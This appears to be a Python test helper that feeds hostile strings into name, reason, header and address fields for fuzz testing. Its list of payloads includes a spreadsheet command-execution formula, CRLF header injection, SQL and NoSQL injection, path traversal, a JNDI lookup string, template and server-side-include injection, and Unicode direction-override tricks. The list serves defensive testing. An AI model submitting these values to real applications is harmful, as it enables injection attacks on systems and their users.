"""What strangers write where a name, a reason, a header or an address is asked for."""

from random import Random
from typing import Final

from tests.handlers.haunted import HOSTILE

# Formulas for whoever opens an export; halves of a header; text that hides, turns or combines.
_MORE: Final = (
    "=cmd|' /C calc'!A0 xss",
    "+1+xss",
    "-2+3+xss",
    "@SUM(1)xss",
    "\t=1xss",
    '=HYPERLINK("//xss")',
    "xss\r\nLocation: //xss",
    "xss\n\nxss",
    "%0d%0aSet-Cookie:%20xss=1",
    "xss\u2028\u2029\x85",
    "\u202axss\u202c",
    "\u2067xss\u2069",
    "\u200bx\u200bs\u200bs",
    "xss" + "\u0301" * 60,
    "\uff58\uff53\uff53\uff1c\uff58\uff1e",
    "\U0001f9d1\u200d\U0001f91d xss",
    "xss\ufffe\uffff",
    "xss\x00xss",
    "\x7f\x80xss\x9b31m",
    "' OR '1'='1'; --xss",
    '{"$ne": "xss"}',
    "../../../../etc/xss",
    "${jndi:ldap://xss}",
    "{{7*7}}xss{% if %}",
    "<!--#exec cmd='xss'-->",
    "]]><![CDATA[xss",
    "%",
    "%zz",
    "%u0041xss",
    "xss" * 70,
    "xss" * 4000,
    " ",
    "",
    "0",
    "null",
    "xss\ud800",
)
WORDS: Final = (*HOSTILE, *_MORE)
_LETTERS: Final = "xsx<>\"'&;:=%/\\\r\n\t\x00\x1b\u202e\u2066\ufeff\u0130\u00df\u1e9e{}[]()|,. "


def words(chance: Random) -> str:
    """One of them, two of them joined, or a soup of what they are made of."""
    match chance.randrange(4):
        case 0:
            return chance.choice(WORDS) + chance.choice(WORDS)
        case 1:
            return "".join(chance.choices(_LETTERS, k=chance.randrange(1, 40)))
        case _:
            return chance.choice(WORDS)


def a_header(chance: Random) -> str:
    """As a server lets it through: no line break, and latin letters only."""
    said = words(chance).encode("latin-1", "ignore").decode("latin-1")
    return "".join(sign for sign in said if sign.isprintable()).strip()[:2000]
